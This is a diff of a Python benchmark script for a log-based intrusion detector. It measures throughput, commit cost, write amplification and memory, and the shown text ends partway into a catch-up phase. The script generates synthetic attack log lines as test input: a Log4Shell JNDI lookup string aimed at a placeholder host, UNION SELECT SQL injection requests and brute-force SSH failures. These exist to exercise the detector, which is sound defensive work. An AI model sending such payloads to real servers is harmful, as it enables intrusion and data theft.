@@ -1,6 +1,10 @@
 #!/usr/bin/env python3
-"""Measures `canhgac run` as it tails files: throughput, latency, memory. Driven by daemon.sh;
-see benches/README.md for what each phase does and how to read its figures.
+"""Measures `canhgac run` as it tails files: throughput, latency, memory, /metrics scrapes, and
+what the detector's persisted state costs (phases keys, amplification, memory, catchup and import,
+`--phases state`: commit time and bytes written against live keys, bytes written per byte of log,
+RSS idle / peak / settled, a restart's catch-up against `scan`, `canhgac import` of attack-heavy
+history). Driven by daemon.sh; see benches/README.md for what each phase does and how to read its
+figures.
 
 Every phase starts its own daemon (`canhgac run --config <work>/<phase>/canhgac.toml`) with a
 fresh state directory and empty log files in <work>/<phase>/, binds a datagram socket and passes
@@ -75,6 +79,14 @@ def pct(values, p):
     return s[k]
 
 
+def ssh_ip(j):  # 100.64.0.0/10
+    return f"100.{64 + (j >> 16)}.{(j >> 8) & 255}.{j & 255}"
+
+
+def web_ip(j):  # 198.18.0.0/16
+    return f"198.18.{j >> 8}.{j & 255}"
+
+
 # ------------------------------------------------------------------------------------ daemon
 
 class Daemon:
@@ -116,7 +128,8 @@ class Daemon:
         env.pop("WATCHDOG_USEC", None)
         env.pop("WATCHDOG_PID", None)
         env.pop("JOURNAL_STREAM", None)
-        self.stderr = open(os.path.join(self.dir, "daemon.err"), "wb")
+        # Appended: a restart (catchup phase) keeps the first run's log.
+        self.stderr = open(os.path.join(self.dir, "daemon.err"), "ab")
         self.proc = subprocess.Popen([self.bin, "run", "--config", self.config], stdin=subprocess.DEVNULL,
                                      stdout=self.stderr, stderr=self.stderr, env=env, preexec_fn=_die_with_parent)
         with open(self.pidfile, "w") as f:
@@ -201,6 +214,19 @@ class Daemon:
         except OSError:
             pass
         return None
+
+    def io(self):
+        """{field: value} of /proc/PID/io (write_bytes, cancelled_write_bytes, wchar, ...), {} if
+        unreadable."""
+        out = {}
+        try:
+            with open(f"/proc/{self.proc.pid}/io") as f:
+                for line in f:
+                    k, _, v = line.partition(":")
+                    out[k.strip()] = int(v)
+        except (OSError, ValueError):
+            pass
+        return out
 
     def smaps(self):
         """{field: KB} of /proc/PID/smaps_rollup (Rss, Anonymous, Shared_*, ...), {} if absent."""
@@ -675,9 +701,10 @@ def http_port(d, timeout=30):
     """The port the daemon serves HTTP on, from its `serving ... on http://ADDR` log line."""
     deadline = time.time() + timeout
     while time.time() < deadline:
-        m = re.search(r"serving /metrics.* on https?://[0-9.]+:(\d+)", d.tail_err(200))
+        # The last one: after a restart the log holds the previous run's port too.
+        m = re.findall(r"serving /metrics.* on https?://[0-9.]+:(\d+)", d.tail_err(200))
         if m:
-            return int(m.group(1))
+            return int(m[-1])
         time.sleep(0.05)
     raise SystemExit(f"the daemon logged no HTTP address within {timeout} s; see {d.stderr.name}")
 
@@ -857,12 +884,6 @@ def make_push_corpus(args, templates):
     begin = end - args.push_span
     rnd = random.Random(20261123)
 
-    def ssh_ip(j):  # 100.64.0.0/10
-        return f"100.{64 + (j >> 16)}.{(j >> 8) & 255}.{j & 255}"
-
-    def web_ip(j):  # 198.18.0.0/16
-        return f"198.18.{j >> 8}.{j & 255}"
-
     users = ["admin", "oracle", "test", "user", "postgres", "git", "ubuntu", "pi", "guest", "ftp"]
     web_attacks = [
         '"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 512',
@@ -1040,7 +1061,7 @@ def phase_push(args, out):
            "catchup_s": t_end - t_w, "cpu_s": cpu, "commits": commits, "hwm_kb": hwm, "steady_rss_kb": steady,
            "idle_rss_kb": idle_rss, "rss_marks": marks, "state_bytes": len(state), "keys": keys,
            "keys_evicted": evicted, "incidents": incidents, "db_bytes": db_bytes, "load": la,
-           "max_keys": args.max_keys or 100000, "full_table_latency": full, "rss_range_kb": lo_hi,
+           "max_keys": args.max_keys or None, "full_table_latency": full, "rss_range_kb": lo_hi,
            "pipeline_on_cpu": on_cpu, "pipeline_runq": runq, "smaps_rollup_idle": rollup, "io_write_bytes": io_w,
            "samples": [(round(s[0] - t0, 3), s[1], s[3]) for s in samples]}
     out["push"] = res
@@ -1048,7 +1069,7 @@ def phase_push(args, out):
           f"{args.web_pool:,} addresses, {meta['files']['auth']['attack_lines']:,} SSH failures from "
           f"{args.ssh_pool:,}) appended as fast as possible")
     print()
-    print(f"  max_keys {args.max_keys or '100000 (default)'}")
+    print(f"  max_keys {args.max_keys or 'not set (the daemon default)'}")
     print(f"  peak RSS (VmHWM)            {hwm / 1024:8.1f} MB")
     if steady:
         print(f"  steady RSS (median VmRSS)   {steady / 1024:8.1f} MB   (VmRSS every 50 ms from 25 % committed to caught up: "
@@ -1083,6 +1104,922 @@ def phase_push(args, out):
     print(f"  load average at the start: {la}")
     if args.perf:
         print(f"  perf profile of the first {args.perf} s: {args.results}/perf.txt")
+    print()
+
+
+# ------------------------------------------------------------------- state: shared helpers
+#
+# The phases below (keys, amplification, memory, catchup, import) measure what the detector's
+# persisted state costs: per commit, per byte of log, in memory, on a restart and on a backfill.
+# Each prints its figures beside a reference measured in the same run.
+
+STATE_PHASES = ["keys", "amplification", "memory", "catchup", "import"]
+COMMIT_HIST = "canhgac_store_commit_duration_seconds"
+KEYS_GAUGE = "canhgac_detector_keys"
+EVICTED = "canhgac_detector_keys_evicted_total"
+
+
+def parse_metrics(text):
+    """{'name{labels}': value} of a Prometheus text page."""
+    out = {}
+    for line in text.splitlines():
+        if not line or line.startswith("#"):
+            continue
+        name, _, value = line.rpartition(" ")
+        try:
+            out[name] = float(value)
+        except ValueError:
+            pass
+    return out
+
+
+def metrics(port):
+    return parse_metrics(scrape(port)[1].decode("utf-8", "replace"))
+
+
+def metrics_settled(d, port, timeout=30):
+    """/metrics once it accounts for every commit the store shows (for a daemon whose store it
+    created). A commit is visible to readers before Store::commit returns (SQLite's automatic
+    WAL checkpoint runs after it, and with a large state takes long), and the daemon updates its
+    counters, the histogram and the keys gauge only then: a scrape right after catching up can
+    still show the previous commit's figures."""
+    deadline = time.time() + timeout
+    while True:
+        m = metrics(port)
+        _, commits, _ = d.progress()
+        if m.get("canhgac_store_commits_total", 0) >= commits or time.time() > deadline:
+            return m
+        time.sleep(0.02)
+
+
+def commit_hist(m):
+    """(count, sum s, [(le, cumulative count)]) of the daemon's commit-duration histogram."""
+    head = COMMIT_HIST + '_bucket{le="'
+    buckets = sorted((float(k[len(head):-2]), v) for k, v in m.items() if k.startswith(head))
+    return m.get(COMMIT_HIST + "_count", 0.0), m.get(COMMIT_HIST + "_sum", 0.0), buckets
+
+
+def hist_bound(h0, h1, q):
+    """Upper bound of the bucket holding quantile q of the commits between two scrapes; None
+    without commits. The buckets are coarse (…, 0.25, 0.5, 1, 2.5, 5 s): a bound, not a value."""
+    n = h1[0] - h0[0]
+    if n <= 0:
+        return None
+    before = dict(h0[2])
+    for le, c in h1[2]:
+        if c - before.get(le, 0.0) >= q * n:
+            return le
+    return float("inf")
+
+
+class MetricsSampler(threading.Thread):
+    """Scrapes /metrics every `interval` s and keeps (time, commits, commit seconds summed,
+    live keys). Between two scrapes with one commit, the sum's difference IS that commit's
+    duration, which the histogram's buckets cannot give; commits sharing an interval get their
+    mean."""
+
+    def __init__(self, d, port, interval=0.25):
+        super().__init__(daemon=True)
+        self.d, self.port, self.interval = d, port, interval
+        self.samples = []
+        self.first = self.last = None
+        self.stop_flag = threading.Event()
+
+    def take(self, settled=False):
+        m = metrics_settled(self.d, self.port) if settled else metrics(self.port)
+        self.last = m
+        if self.first is None:
+            self.first = m
+        c, s, _ = commit_hist(m)
+        self.samples.append((time.time(), c, s, m.get(KEYS_GAUGE)))
+        return m
+
+    def run(self):
+        while not self.stop_flag.is_set():
+            try:
+                self.take()
+            except Exception:  # daemon gone or slow: the last good sample stands
+                pass
+            self.stop_flag.wait(self.interval)
+
+    def finish(self):
+        self.stop_flag.set()
+        self.join()
+        self.take(settled=True)
+
+    def durations(self):
+        out = []
+        for (_, c0, s0, _), (_, c1, s1, _) in zip(self.samples, self.samples[1:]):
+            n = int(round(c1 - c0))
+            if n > 0:
+                out += [(s1 - s0) / n] * n
+        return out
+
+
+def commit_figures(sampler):
+    """Mean (exact: sum / count), p50 and p99 (per commit, from the scrape intervals) and the p99
+    bucket bound of the histogram, in seconds, over the sampler's lifetime."""
+    h0, h1 = commit_hist(sampler.first), commit_hist(sampler.last)
+    n = h1[0] - h0[0]
+    per = sampler.durations()
+    return {"commits": int(n), "mean_s": (h1[1] - h0[1]) / n if n else None,
+            "p50_s": pct(per, 50) if per else None, "p99_s": pct(per, 99) if per else None,
+            "max_s": max(per) if per else None, "p99_bucket_le": hist_bound(h0, h1, 0.99), "per_commit_s": per}
+
+
+def state_blob(d):
+    """Bytes of the pages holding the detector's state in the store: every table named detector_*
+    and its indexes (dbstat), so that a whole-state blob (one detector_state row, rewritten by
+    every commit) and per-key rows (a detector_keys table) are counted alike. None if the
+    store has neither or SQLite lacks dbstat."""
+    try:
+        r = d.query("SELECT SUM(pgsize) FROM dbstat WHERE name IN "
+                    "(SELECT name FROM sqlite_master WHERE tbl_name LIKE 'detector%')")
+    except sqlite3.Error:
+        return None
+    return r[0][0] if r and r[0][0] else None
+
+
+def table_bytes(db_path):
+    """{table or index: bytes of its pages} of a store, from SQLite's dbstat (read-only)."""
+    try:
+        c = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True)
+        try:
+            return dict(c.execute("SELECT name, SUM(pgsize) FROM dbstat GROUP BY name"))
+        finally:
+            c.close()
+    except sqlite3.Error:
+        return {}
+
+
+def ssh_failure(stamp, j, k):
+    """A failed password from address j: one attempt, below every threshold on its own."""
+    return (f"{stamp} web01 sshd[{1000 + k % 30000}]: Failed password for invalid user admin from {ssh_ip(j)} "
+            f"port {1024 + k % 60000} ssh2\n")
+
+
+def benign_auth(stamp, k):
+    if k % 2:
+        return f"{stamp} web01 CRON[{1000 + k % 30000}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)\n"
+    return (f"{stamp} web01 sshd[{1000 + k % 30000}]: Accepted publickey for deploy from 10.1.{k % 250}.{k % 200 + 1} "
+            f"port {1024 + k % 60000} ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n")
+
+
+def sqli_line(ip, i, t):
+    return (f'{ip} - - [{clf_stamp(t)}] "GET /news.php?id=-{i}+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- '
+            f'HTTP/1.1" 200 512 "-" "{UA}"\n')
+
+
+def append(path, text):
+    data = text.encode("latin-1")
+    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
+    try:
+        while data:
+            data = data[os.write(fd, data):]
+    finally:
+        os.close(fd)
+
+
+def sizes_of(d):
+    return {n: os.path.getsize(p) for n, p in d.logs.items()}
+
+
+def fill_ssh(d, port, target, timeout):
+    """SSH failures, one per address, until the detector tracks about `target` keys (one line
+    opens a key in every rule that counts it, so keys per address are measured on a first
+    chunk, not assumed). Returns (addresses, live keys, seconds)."""
+    t0 = time.time()
+    first = min(100, target)
+    stamp = syslog_stamp(time.time())
+    append(d.logs["auth"], "".join(ssh_failure(stamp, j, j) for j in range(first)))
+    wait_caught_up(d, sizes_of(d), 120)
+    keys0 = metrics_settled(d, port).get(KEYS_GAUGE)
+    per = max(1.0, keys0 / first) if keys0 else 1.0
+    n = max(first, int(round(target / per)))
+    for a in range(first, n, 20000):
+        stamp = syslog_stamp(time.time())
+        append(d.logs["auth"], "".join(ssh_failure(stamp, j, j) for j in range(a, min(n, a + 20000))))
+    wait_caught_up(d, sizes_of(d), 600)
+    return n, metrics_settled(d, port).get(KEYS_GAUGE), time.time() - t0
+
+
+class IncidentWatcher(threading.Thread):
+    """Polls the store (read-only, every `every` s) for incidents added since it started, and
+    keeps when each source address's first one became visible and its created_us."""
+
+    def __init__(self, d, every=0.002):
+        super().__init__(daemon=True)
+        self.d, self.every = d, every
+        self.last_id = d.query("SELECT COALESCE(MAX(id), 0) FROM incidents")[0][0]
+        self.seen = {}
+        self.stop_flag = threading.Event()
+
+    def run(self):
+        while not self.stop_flag.is_set():
+            try:
+                rows = self.d.query("SELECT id, src_ip, created_us FROM incidents WHERE id > ? ORDER BY id",
+                                    (self.last_id,))
+            except sqlite3.Error:
+                rows = []
+            except AttributeError:  # the daemon was stopped under us (interrupted run)
+                return
+            t = now_us()
+            for i, ip, created in rows:
+                self.last_id = i
+                self.seen.setdefault(ip, (t, created))
+            time.sleep(self.every)
+
+
+class MixWriter(threading.Thread):
+    """`rate` lines/s for `seconds` s, in 10 ms ticks, stamped now: per 100 lines one attack
+    that opens an incident at once (Log4Shell or UNION SELECT from a fresh address; its write
+    time kept), one SSH failure from an already tracked address (round robin over `touch`
+    addresses, so no key nears its threshold), 18 benign auth lines (19 without tracked
+    addresses), 80 benign access lines."""
+
+    def __init__(self, d, templates, ips, rate, seconds, touch=0):
+        super().__init__(daemon=True)
+        self.d, self.templates, self.ips = d, templates, ips
+        self.rate, self.seconds, self.touch = rate, seconds, touch
+        self.sent = {}  # ip -> write time, µs
+        self.bytes = self.lines = 0
+
+    def run(self):
+        fa = os.open(self.d.logs["auth"], os.O_WRONLY | os.O_APPEND)
+        fw = os.open(self.d.logs["web"], os.O_WRONLY | os.O_APPEND)
+        k = touched = 0
+        t0 = time.time()
+        try:
+            while True:
+                now = time.time()
+                if now - t0 >= self.seconds:
+                    break
+                due = int(self.rate * (now - t0)) - k
+                web, auth, attacks = [], [], []
+                clf, sys_ = clf_stamp(now), syslog_stamp(now)
+                for _ in range(max(0, due)):
+                    k += 1
+                    r = k % 100
+                    if r == 50:
+                        ip = self.ips.next()
+                        web.append(attack_line(ip, self.ips.n, now))
+                        attacks.append(ip)
+                    elif r == 25 and self.touch:
+                        auth.append(ssh_failure(sys_, touched % self.touch, 7 + touched))
+                        touched += 1
+                    elif r % 5 == 0:
+                        auth.append(benign_auth(sys_, k))
+                    else:
+                        pre, post = self.templates[k % len(self.templates)]
+                        web.append(pre + clf + post)
+                for fd, part in ((fa, auth), (fw, web)):
+                    if not part:
+                        continue
+                    data = "".join(part).encode("latin-1")
+                    self.bytes += len(data)
+                    self.lines += len(part)
+                    t_w = now_us()
+                    while data:
+                        data = data[os.write(fd, data):]
+                    if fd == fw:
+                        for ip in attacks:
+                            self.sent[ip] = t_w
+                time.sleep(0.01)
+        finally:
+            os.close(fa)
+            os.close(fw)
+
+
+def fmt_ms(s):
+    return "-" if s is None else ("inf" if s == float("inf") else f"{s * 1000:.1f}")
+
+
+def fmt_mb(b):
+    return "-" if b is None else f"{b / 1e6:,.1f}"
+
+
+def ratio(a, b, spec=".1f"):
+    return "-" if a is None or not b else format(a / b, spec)
+
+
+# ------------------------------------------------------------------------------------- keys
+
+def phase_keys(args, out):
+    """Commit cost against the number of live detector keys."""
+    templates = benign_templates(args)
+    counts = [int(x) for x in args.keys.split(",") if x.strip()]
+    rows = []
+    for n in counts:
+        d = start_daemon(args, f"keys-{n}", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
+        port = http_port(d)
+        addrs, keys, fill_s = (0, metrics(port).get(KEYS_GAUGE), 0.0)
+        if n:
+            log(f"keys {n:,}: filling the key table (load average {loadavg()})")
+            addrs, keys, fill_s = fill_ssh(d, port, n, args.catchup_timeout)
+        time.sleep(1.0)  # past the pacing gap the fill's last commit set
+        la = loadavg()
+        log(f"keys {n:,}: {int(keys or 0):,} live keys; {args.keys_rate:g} lines/s for {args.keys_seconds:g} s "
+            f"(load average {la})")
+        sampler = MetricsSampler(d, port)
+        sampler.take(settled=True)
+        watcher = IncidentWatcher(d)
+        io0, cpu0, _, c0, _ = d.io(), d.cpu(), *d.progress()
+        writer = MixWriter(d, templates, IpCounter(), args.keys_rate, args.keys_seconds, touch=addrs)
+        t0 = time.time()
+        sampler.start()
+        watcher.start()
+        writer.start()
+        writer.join()
+        try:
+            wait_caught_up(d, sizes_of(d), args.catchup_timeout)
+            caught = True
+        except TimeoutError as e:
+            log(f"  {e}")
+            caught = False
+        deadline = time.time() + 5
+        while time.time() < deadline and not all(ip in watcher.seen for ip in writer.sent):
+            time.sleep(0.01)
+        watcher.stop_flag.set()
+        watcher.join()
+        sampler.finish()
+        io1, cpu1, _, c1, _ = d.io(), d.cpu(), *d.progress()
+        el = time.time() - t0
+        keys_end = sampler.last.get(KEYS_GAUGE)
+        blob = state_blob(d)  # as the last commits of the load wrote it
+        finish_daemon(d)
+        lat = [(watcher.seen[ip][1] - t_w, watcher.seen[ip][0] - t_w) for ip, t_w in writer.sent.items()
+               if ip in watcher.seen]
+        missed = len(writer.sent) - len(lat)
+        written = io1.get("write_bytes", 0) - io0.get("write_bytes", 0) if io0 and io1 else None
+        cf = commit_figures(sampler)
+        commits = c1 - c0
+        row = {"target": n, "addresses": addrs, "keys": keys, "keys_end": keys_end, "fill_s": fill_s,
+               "state_bytes": blob, "commits": commits, "commit": cf, "written": written,
+               "cancelled": (io1.get("cancelled_write_bytes", 0) - io0.get("cancelled_write_bytes", 0)) if io0 and io1 else None,
+               "log_bytes": writer.bytes, "lines": writer.lines, "cpu_share": (cpu1 - cpu0) / el, "caught_up": caught,
+               "attacks": len(writer.sent), "missed": missed, "load": la,
+               "commit_ms": [c / 1000 for c, _ in lat], "visible_ms": [v / 1000 for _, v in lat]}
+        rows.append(row)
+        log(f"  {commits} commits, mean {fmt_ms(cf['mean_s'])} ms; {fmt_mb(written)} MB written for "
+            f"{writer.bytes / 1e6:.1f} MB of log; {len(lat)} attack lines stored")
+    out["keys"] = {"rate": args.keys_rate, "seconds": args.keys_seconds, "max_keys": args.keys_max_keys, "rows": rows}
+
+    print(f"5. Commits against live detector keys: {args.keys_rate:,g} lines/s for {args.keys_seconds:g} s "
+          f"(1 % attacks opening an incident from a fresh address, 1 % SSH failures on tracked addresses, 18 % benign "
+          f"auth, 80 % benign access; stamped now), after a fill of SSH failures from distinct addresses, one each "
+          f"(below the threshold: keys stay live and counting); [pipeline] max_keys = {args.keys_max_keys:,}")
+    print("   keys: canhgac_detector_keys before the load; commit times from /metrics (mean = sum / count; p50 and p99 per "
+          "commit from the sum's steps between scrapes 250 ms apart; 'hist' = the histogram bucket holding p99);")
+    print("   written = /proc/PID/io write_bytes; ampl. = written / log bytes appended; latency = write(2) of the attack "
+          "line to its incident's row (committed = created_us; visible = seen by a reader polling every 2 ms).")
+    print("   The first row, with no fill, is the reference ('x ref': ampl. / its ampl.); state kB: the store's pages of "
+          "detector_* tables after the load (dbstat; today one detector_state row that every commit rewrites).")
+    print()
+    fmt = "  {:>8} {:>8} {:>7} {:>9} {:>8} {:>8} {:>7} {:>10} {:>8} {:>9} {:>8} {:>6} {:>15} {:>15} {:>6}"
+    print(fmt.format("keys", "state kB", "commits", "mean ms", "p50 ms", "p99 ms", "hist", "B/commit", "written",
+                     "log MB", "ampl.", "x ref", "committed p50/99", "visible p50/99", "CPU %"))
+    ref = rows[0] if rows else None
+    for r in rows:
+        cf = r["commit"]
+        bpc = r["written"] / r["commits"] if r["written"] is not None and r["commits"] else None
+        amp = r["written"] / r["log_bytes"] if r["written"] is not None and r["log_bytes"] else None
+        ref_amp = ref["written"] / ref["log_bytes"] if ref and ref["written"] is not None and ref["log_bytes"] else None
+        cl = f"{statistics.median(r['commit_ms']):.0f} / {pct(r['commit_ms'], 99):.0f}" if r["commit_ms"] else "-"
+        vl = f"{statistics.median(r['visible_ms']):.0f} / {pct(r['visible_ms'], 99):.0f}" if r["visible_ms"] else "-"
+        print(fmt.format(f"{int(r['keys'] or 0):,}", "-" if r["state_bytes"] is None else f"{r['state_bytes'] / 1e3:,.0f}",
+                         r["commits"], fmt_ms(cf["mean_s"]), fmt_ms(cf["p50_s"]), fmt_ms(cf["p99_s"]),
+                         "<=" + (fmt_ms(cf["p99_bucket_le"]) if cf["p99_bucket_le"] is not None else "-"),
+                         "-" if bpc is None else f"{bpc / 1e3:,.0f} kB", fmt_mb(r["written"]) + " MB",
+                         f"{r['log_bytes'] / 1e6:.2f}", "-" if amp is None else f"{amp:,.1f}",
+                         ratio(amp, ref_amp), cl, vl, f"{r['cpu_share'] * 100:.0f}"))
+    for r in rows:
+        notes = []
+        if r["missed"]:
+            notes.append(f"{r['missed']} of {r['attacks']} attack lines had no incident 5 s after catching up")
+        if not r["caught_up"]:
+            notes.append("NOT caught up")
+        if notes:
+            print(f"  {int(r['keys'] or 0):,} keys: " + "; ".join(notes))
+    for r in rows:
+        print(f"  {int(r['keys'] or 0):,} keys: " + (f"fill of {r['addresses']:,} addresses took {r['fill_s']:.2f} s; "
+                                                     if r["target"] else "no fill; ")
+              + f"{int(r['keys_end'] or 0):,} keys at the end, {r['attacks']} attack lines")
+    print(f"  load average at the start of each row: {', '.join(r['load'] for r in rows)}")
+    print()
+
+
+# ------------------------------------------------------------------------------ amplification
+
+def measure_writes(d, port, run, timeout):
+    """Runs run() (which appends to the tailed files and returns the log bytes it wrote), waits
+    until all of it is committed, and returns what the daemon wrote meanwhile."""
+    sampler = MetricsSampler(d, port)
+    sampler.take(settled=True)
+    io0, cpu0, t0 = d.io(), d.cpu(), time.time()
+    sampler.start()
+    log_bytes = run()
+    try:
+        wait_caught_up(d, sizes_of(d), timeout)
+    except TimeoutError as e:
+        log(f"  {e}")
+    sampler.finish()
+    io1, cpu1, el = d.io(), d.cpu(), time.time() - t0
+    cf = commit_figures(sampler)
+    written = io1.get("write_bytes", 0) - io0.get("write_bytes", 0) if io0 and io1 else None
+    return {"log_bytes": log_bytes, "written": written, "commit": cf, "commits": cf["commits"],
+            "wchar": io1.get("wchar", 0) - io0.get("wchar", 0) if io0 and io1 else None,
+            "cpu_share": (cpu1 - cpu0) / el, "seconds": el, "keys": sampler.last.get(KEYS_GAUGE),
+            "state_bytes": state_blob(d)}
+
+
+
+def phase_amplification(args, out):
+    """Bytes written to storage per byte of log: a normal mix, then a slow, spread-out SQLi scan."""
+    templates = benign_templates(args)
+    res = {}
+
+    d = start_daemon(args, "amp-mix", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
+    port = http_port(d)
+    time.sleep(1.0)
+    la = loadavg()
+    log(f"amplification (a): {args.amp_mbps} MB/s benign + {args.amp_attacks}/s attacks for {args.amp_seconds} s "
+        f"(load average {la})")
+
+    def mix():
+        bg = BackgroundLoad(d.logs["web"], templates, args.amp_mbps)
+        bg.start()
+        ips, n, sent = IpCounter(), 0, 0
+        t0 = time.time()
+        while time.time() - t0 < args.amp_seconds:
+            line = attack_line(ips.next(), ips.n, time.time())
+            append(d.logs["web"], line)
+            sent += len(line)
+            n += 1
+            pause = t0 + n / args.amp_attacks - time.time()
+            if pause > 0:
+                time.sleep(pause)
+        bg.stop_flag.set()
+        bg.join()
+        res["mix_attacks"] = n
+        return bg.bytes + sent
+
+    res["mix"] = dict(measure_writes(d, port, mix, args.catchup_timeout), load=la)
+    finish_daemon(d)
+
+    d = start_daemon(args, "amp-sqli", [("auth", "syslog"), ("web", "apache")], {"max_keys": args.keys_max_keys})
+    port = http_port(d)
+    log(f"amplification (b): {args.sqli_pool:,} addresses send one SQLi each (the table), then {args.sqli_rate}/s "
+        f"from random ones of them for {args.amp_seconds} s")
+    t = time.time()
+    append(d.logs["web"], "".join(sqli_line(web_ip(j), j, t) for j in range(args.sqli_pool)))
+    wait_caught_up(d, sizes_of(d), args.catchup_timeout)
+    time.sleep(1.0)
+    la = loadavg()
+    rnd = random.Random(20261205)
+
+    def scan():
+        n = sent = 0
+        t0 = time.time()
+        while time.time() - t0 < args.amp_seconds:
+            j = rnd.randrange(args.sqli_pool)
+            line = sqli_line(web_ip(j), args.sqli_pool + n, time.time())
+            append(d.logs["web"], line)
+            sent += len(line)
+            n += 1
+            pause = t0 + n / args.sqli_rate - time.time()
+            if pause > 0:
+                time.sleep(pause)
+        res["sqli_requests"] = n
+        return sent
+
+    res["sqli"] = dict(measure_writes(d, port, scan, args.catchup_timeout), load=la)
+    finish_daemon(d)
+    out["amplification"] = res
+
+    print(f"6. Write amplification: bytes the daemon wrote to storage (/proc/PID/io write_bytes) per byte of log appended, "
+          f"until all of it was committed; [pipeline] max_keys = {args.keys_max_keys:,}")
+    print()
+    fmt = "  {:<62} {:>10} {:>11} {:>12} {:>8} {:>11} {:>8} {:>9} {:>6}"
+    print(fmt.format("", "log bytes", "written MB", "written/log", "commits", "B/commit", "keys", "state kB", "CPU %"))
+    for key, label in (("mix", f"(a) normal mix: {args.amp_mbps:g} MB/s benign access + {args.amp_attacks:g} attacks/s, "
+                               f"{args.amp_seconds:g} s"),
+                       ("sqli", f"(b) slow SQLi scan: {args.sqli_rate:g}/s from {args.sqli_pool:,} addresses, "
+                                f"{args.amp_seconds:g} s")):
+        r = res[key]
+        bpc = r["written"] / r["commits"] if r["written"] is not None and r["commits"] else None
+        print(fmt.format(label, f"{r['log_bytes']:,}", fmt_mb(r["written"]), ratio(r["written"], r["log_bytes"], ",.1f"),
+                         r["commits"], "-" if bpc is None else f"{bpc / 1e3:,.0f} kB", f"{int(r['keys'] or 0):,}",
+                         "-" if r["state_bytes"] is None else f"{r['state_bytes'] / 1e3:,.0f}", f"{r['cpu_share'] * 100:.0f}"))
+    s, m = res["sqli"], res["mix"]
+    print(f"  commit mean: (a) {fmt_ms(m['commit']['mean_s'])} ms, (b) {fmt_ms(s['commit']['mean_s'])} ms; "
+          f"the scan's {res.get('sqli_requests', 0)} requests each touch one key of {int(s['keys'] or 0):,}")
+    print(f"  load average at the start: (a) {m['load']}, (b) {s['load']}")
+    print()
+
+
+# ----------------------------------------------------------------------------------- memory
+
+def phase_memory(args, out):
+    """RSS idle, at the peak of a PUSH_MB burst and settled afterwards, at the default max_keys."""
+    templates = benign_templates(args)
+    files, meta = make_push_corpus(args, templates)
+    sizes = meta["bytes"]
+    total = sum(sizes.values())
+    for p in files.values():
+        with open(p, "rb") as f:
+            while f.read(1 << 24):
+                pass
+    d = start_daemon(args, "memory", [("auth", "syslog"), ("web", "apache")])
+    port = http_port(d)
+    log(f"memory: {args.mem_idle:g} s idle")
+    time.sleep(args.mem_idle)
+    idle_rss, idle_hwm = d.mem()
+    idle_roll = d.smaps()
+    samples = []
+    stop = threading.Event()
+
+    def sampler():
+        while not stop.is_set() and d.alive():
+            try:
+                rss, hwm = d.mem()
+            except OSError:
+                break
+            samples.append((time.time(), rss, hwm))
+            time.sleep(0.05)
+
+    th = threading.Thread(target=sampler, daemon=True)
+    la = loadavg()
+    log(f"memory: pushing {total / 1e6:.0f} MB (load average {la})")
+    t0 = time.time()
+    th.start()
+    copy_interleaved([(files[n], d.logs[n]) for n in ("auth", "web")])
+    t_w = time.time()
+    try:
+        wait_caught_up(d, sizes, args.catchup_timeout, every=0.05)
+        caught = True
+    except TimeoutError as e:
+        log(f"  {e}")
+        caught = False
+    t_c = time.time()
+    caught_rss, _ = d.mem()
+    log(f"memory: caught up {t_c - t0:.0f} s after the push began; {args.mem_settle:g} s to settle")
+    marks = []
+    for k in range(1, 7):
+        due = t_c + args.mem_settle * k / 6
+        time.sleep(max(0.0, due - time.time()))
+        marks.append((round(time.time() - t_c), d.mem()[0]))
+    settled_rss, hwm = d.mem()
+    settled_roll = d.smaps()
+    stop.set()
+    th.join()
+    m = metrics(port)
+    finish_daemon(d)
+    busy = [s[1] for s in samples if s[0] <= t_c]
+    res = {"bytes": total, "idle_s": args.mem_idle, "idle_rss_kb": idle_rss, "idle_hwm_kb": idle_hwm,
+           "idle_smaps": idle_roll, "peak_hwm_kb": hwm, "peak_rss_sampled_kb": max(busy) if busy else None,
+           "caught_up": caught, "writer_s": t_w - t0, "catchup_s": t_c - t0, "caught_rss_kb": caught_rss,
+           "settle_s": args.mem_settle, "settled_rss_kb": settled_rss, "settled_smaps": settled_roll,
+           "settle_marks": marks, "keys": m.get(KEYS_GAUGE), "evicted": m.get(EVICTED), "load": la,
+           "samples": [(round(s[0] - t0, 3), s[1]) for s in samples]}
+    out["memory"] = res
+
+    def anon(r):
+        return (f" anonymous {r['Anonymous'] / 1024:.1f} MB, file-backed {(r['Rss'] - r['Anonymous']) / 1024:.1f} MB"
+                if "Anonymous" in r and "Rss" in r else "")
+
+    print(f"7. Memory at the default max_keys: {total / 1e6:.0f} MB push corpus (as phase 3) appended as fast as possible")
+    print()
+    rows = [(f"idle, {args.mem_idle:g} s after READY, no input (reference)", idle_rss, anon(idle_roll)),
+            ("peak during the burst (VmHWM)", hwm, f"{ratio(hwm, idle_rss)} x idle"),
+            (f"on catching up, {t_c - t0:.0f} s after the push began", caught_rss, f"{ratio(caught_rss, idle_rss)} x idle"),
+            (f"settled, {args.mem_settle:g} s after catching up", settled_rss,
+             f"{ratio(settled_rss, idle_rss)} x idle;{anon(settled_roll)}")]
+    for label, kb, note in rows:
+        print(f"  {label:<52} {kb / 1024:8.1f} MB   {note}")
+    print("  VmRSS while settling: " + ", ".join(f"+{s} s {r / 1024:.0f} MB" for s, r in marks))
+    print(f"  writer done after {t_w - t0:.1f} s; {'caught up' if caught else 'NOT caught up'}; "
+          f"{int(res['keys'] or 0):,} keys live at the end, {int(res['evicted'] or 0):,} evicted (max_keys: the default); "
+          f"load average at the start {la}")
+    print()
+
+
+# ---------------------------------------------------------------------------------- catchup
+
+def phase_catchup(args, out):
+    """A backlog written while the daemon is stopped, read on restart, against `scan` of it."""
+    corpus = args.catchup_corpus
+    names = [("auth", "syslog", "auth.log"), ("web", "apache", "access.log")]
+    # The backlog is the corpus after its first 2000 lines, which the daemon reads before it is
+    # stopped: a restart then resumes from checkpoints of files it knows, as in production.
+    srcdir = os.path.join(args.work, "catchup-src")
+    os.makedirs(srcdir, exist_ok=True)
+    warm, backlog, nlines = {}, {}, 0
+    for n, _, fn in names:
+        warm[n] = os.path.join(srcdir, fn + ".warm")
